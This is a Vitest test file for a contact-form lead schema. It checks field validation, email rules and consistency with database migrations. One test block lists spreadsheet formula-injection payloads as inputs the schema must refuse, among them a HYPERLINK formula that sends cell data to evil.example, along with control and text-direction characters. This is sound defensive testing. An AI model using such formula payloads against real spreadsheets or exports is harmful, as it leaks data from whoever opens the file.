import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { contactRequestSchema, fieldErrors } from "@/lib/contact/contact-schema";
import { isEmailAddress } from "@/lib/contact/email-rule";
import { FIELD_LIMITS } from "@/lib/leads/lead-fields";
import { COUNTRIES, NAME_PATTERN, PHONE_PREFIXES, REASONS, VOLUMES } from "@/lib/leads/options";
import { MARKETS } from "@/lib/markets/markets";
import { lead } from "../../bench/lib/contact-load";
import { EMAILS } from "../support/contact/email-addresses";

const valid = {
  company: "  Acme Importaciones ",
  contact: "Ana Pérez",
  email: " ana@example.com ",
  phonePrefix: "52",
  phone: "55 1234-5678",
  country: "usa",
  reason: "goods",
  volume: "10000-49999",
  market: "mx",
  submissionId: "8d7f1f0e-5b7a-4c8e-9a43-1f2d3c4b5a69",
  website: "",
};

/** The field names a rejected body is answered with (the 422's `fields`). */
function rejected(body: unknown): Record<string, string> {
  const result = contactRequestSchema.safeParse(body);
  if (result.success) throw new Error("expected the body to be rejected");
  return fieldErrors(result.error);
}

describe("the contact request schema shared by the form and the route", () => {
  it("accepts a complete lead and trims its text", () => {
    const lead = contactRequestSchema.parse(valid);
    expect(lead.company).toBe("Acme Importaciones");
    expect(lead.email).toBe("ana@example.com");
    expect(contactRequestSchema.safeParse({ ...valid, website: undefined }).success).toBe(true);
  });

  it("accepts every offered option value", () => {
    const numbers = {
      "52": "55 1234-5678",
      "1": "201 555 0123",
      "54": "11 4321-5678",
      "55": "11 98765-4321",
      "57": "300 123 4567",
    };
    for (const phonePrefix of PHONE_PREFIXES)
      expect(contactRequestSchema.safeParse({ ...valid, phonePrefix, phone: numbers[phonePrefix] }).success).toBe(true);
    for (const country of COUNTRIES) expect(contactRequestSchema.safeParse({ ...valid, country }).success).toBe(true);
    for (const reason of REASONS) expect(contactRequestSchema.safeParse({ ...valid, reason }).success).toBe(true);
    for (const volume of VOLUMES) expect(contactRequestSchema.safeParse({ ...valid, volume }).success).toBe(true);
    for (const market of MARKETS) expect(contactRequestSchema.safeParse({ ...valid, market }).success).toBe(true);
  });

  it.each([
    ["company", { company: undefined }, "Required"],
    ["company", { company: "   " }, "Required"],
    ["company", { company: "x".repeat(FIELD_LIMITS.company + 1) }, `At most ${FIELD_LIMITS.company} characters`],
    ["contact", { contact: 7 }, "Must be text"],
    ["email", { email: "ana@intranet" }, "Not a valid email address"],
    ["email", { email: `${"a".repeat(FIELD_LIMITS.email)}@example.com` }, `At most ${FIELD_LIMITS.email} characters`],
    ["phone", { phone: "55 1234 5678 ext 9" }, "Digits, spaces, dashes, dots, parentheses and a leading + only"],
    ["phone", { phone: "+52 (55) 1234" }, "Not a valid number for +52"],
    ["phone", { phone: "+44 20 7946 0958" }, "Country code +44 is not offered"],
    ["company", { company: "Acme\u0000" }, "Control or text-direction characters are not allowed"],
    ["contact", { contact: "Ana \u202eevil" }, "Control or text-direction characters are not allowed"],
    ["email", { email: "ana\u2066@example.com" }, "Control or text-direction characters are not allowed"],
    ["submissionId", { submissionId: "8d7f1f0e-5b7a-1c8e-9a43-1f2d3c4b5a69" }, "Not a UUID v4"],
    ["phone", { phone: "12345" }, "At least 6 characters"],
    ["phone", { phone: "1".repeat(FIELD_LIMITS.phone + 1) }, `At most ${FIELD_LIMITS.phone} characters`],
    ["phonePrefix", { phonePrefix: "44" }, "Not an offered country code"],
    ["country", { country: "USA" }, "Not an offered country"],
    ["reason", { reason: "" }, "Not an offered reason"],
    ["volume", { volume: "0-5000" }, "Not an offered range"],
    ["market", { market: "es" }, "Not a market"],
    ["submissionId", { submissionId: "not-a-uuid" }, "Not a UUID v4"],
    ["website", { website: ["x"] }, undefined],
    ["isAdmin", { isAdmin: true }, "Unknown field"],
  ])("names %s in the errors for %o", (field, overrides, message) => {
    const fields = rejected({ ...valid, ...overrides });
    expect(Object.keys(fields)).toEqual([field]);
    if (message) expect(fields[field]).toBe(message);
  });

  it("reports each invalid field once, with its first message", () => {
    const fields = rejected({ ...valid, company: "", email: "x", phone: "abc" });
    expect(Object.keys(fields).sort()).toEqual(["company", "email", "phone"]);
    expect(Object.values(fields).every((m) => typeof m === "string" && m.length > 0)).toBe(true);
  });

  it("accepts every lead the benchmark sends, so a 422 under load is a server fault, never the bench's data", () => {
    const refused: string[] = [];
    for (let n = 0; n < 20_000; n += 1) {
      const result = contactRequestSchema.safeParse(lead(n, valid.submissionId));
      if (!result.success) refused.push(`lead ${n}: ${JSON.stringify(fieldErrors(result.error))}`);
    }
    expect(refused.slice(0, 3)).toEqual([]);
  });

  it("names the body when it is not an object", () => {
    expect(rejected("text")).toEqual({ body: expect.any(String) });
  });
});

describe("lead text a spreadsheet or a plain-text alert would misread", () => {
  const namePattern = new RegExp(`^(?:${NAME_PATTERN})$`, "v");

  it("refuses a company or contact starting like a formula, in the form's pattern and in the route", () => {
    for (const formula of [
      '=HYPERLINK("https://evil.example/?d="&C2,"Ver ficha")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      " =1+1",
      "\u200b=1+1",
    ]) {
      expect(namePattern.test(formula), formula).toBe(false);
      expect(rejected({ ...valid, company: formula }), formula).toHaveProperty("company");
      expect(rejected({ ...valid, contact: formula }), formula).toHaveProperty("contact");
    }
    // A tab or CR before it is a control character: refused as well.
    expect(rejected({ ...valid, company: "Acme\t=1+1" })).toHaveProperty("company");
    // Signs inside a name are a name's business.
    for (const name of ["Ana-María Gómez", "A+B Consultores", "Acme @ Monterrey", " Acme", "Ana = CEO"]) {
      expect(namePattern.test(name), name).toBe(true);
      expect(contactRequestSchema.safeParse({ ...valid, company: name, contact: name }).success, name).toBe(true);
    }
  });

  it("refuses C1 controls, line and paragraph separators and direction marks", () => {
    for (const text of ["Acme\u2028Correo: ceo@bigcorp.example", "Acme\u2029x", "Acme\u0085x", "Acme\u009bx"]) {
      expect(rejected({ ...valid, company: text }), JSON.stringify(text)).toHaveProperty("company");
    }
    for (const mark of ["\u200e", "\u200f", "\u061c"]) {
      expect(rejected({ ...valid, contact: `Ana${mark} Pérez` }), JSON.stringify(mark)).toHaveProperty("contact");
    }
  });

  it("removes zero-width characters and a byte order mark without a word", () => {
    const lead = contactRequestSchema.parse({
      ...valid,
      company: "\ufeffAcme\u200b Importaciones\u2060",
      contact: "Ana\u200c Pérez\u200d",
      email: "\ufeffana@example.com\u200b",
    });
    expect([lead.company, lead.contact, lead.email]).toEqual(["Acme Importaciones", "Ana Pérez", "ana@example.com"]);
  });
});

/** The HTML standard's "valid email address" (what <input type=email> accepts), for the unit test's side of it. */
const HTML_EMAIL =
  /^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/;

describe("the one email rule, in the browser and on the server", () => {
  it.each(EMAILS)("%j → %s, on both sides", (email, accepted) => {
    expect(isEmailAddress(email)).toBe(accepted);
    expect(contactRequestSchema.safeParse({ ...valid, email }).success).toBe(accepted);
  });

  it("takes nothing <input type=email> refuses, so the browser's own check and the rule never disagree", () => {
    for (const [email] of EMAILS) if (isEmailAddress(email)) expect(email).toMatch(HTML_EMAIL);
  });

  it("holds the whole address to 254 characters", () => {
    const long = `${"a".repeat(60)}@${"b".repeat(63)}.${"c".repeat(63)}.${"d".repeat(63)}.com`;
    expect(long.length).toBeGreaterThan(254);
    expect(isEmailAddress(long)).toBe(false);
    expect(rejected({ ...valid, email: long })).toEqual({ email: "At most 254 characters" });
  });
});

describe("the database mirrors the schema", () => {
  const sql = readdirSync("supabase/migrations")
    .filter((f) => f.endsWith(".sql"))
    .map((f) => readFileSync(`supabase/migrations/${f}`, "utf8"))
    .join("\n");
  const allowed = (column: string) => {
    const match = new RegExp(`\\b${column} text not null check \\(${column} in \\(([^)]*)\\)\\)`).exec(sql);
    return match?.[1]?.split(",").map((v) => v.trim().replace(/^'|'$/g, ""));
  };
  const maxLength = (column: string) =>
    Number(new RegExp(`char_length\\(${column}\\) between \\d+ and (\\d+)`).exec(sql)?.[1]);

  it("allows exactly the option values of lib/leads/options.ts", () => {
    expect(allowed("phone_prefix")).toEqual([...PHONE_PREFIXES]);
    expect(allowed("country")).toEqual([...COUNTRIES]);
    expect(allowed("reason")).toEqual([...REASONS]);
    expect(allowed("volume")).toEqual([...VOLUMES]);
  });

  it("limits lengths as FIELD_LIMITS does", () => {
    expect(maxLength("company")).toBe(FIELD_LIMITS.company);
    expect(maxLength("contact_name")).toBe(FIELD_LIMITS.contact);
    expect(maxLength("email")).toBe(FIELD_LIMITS.email);
  });
});
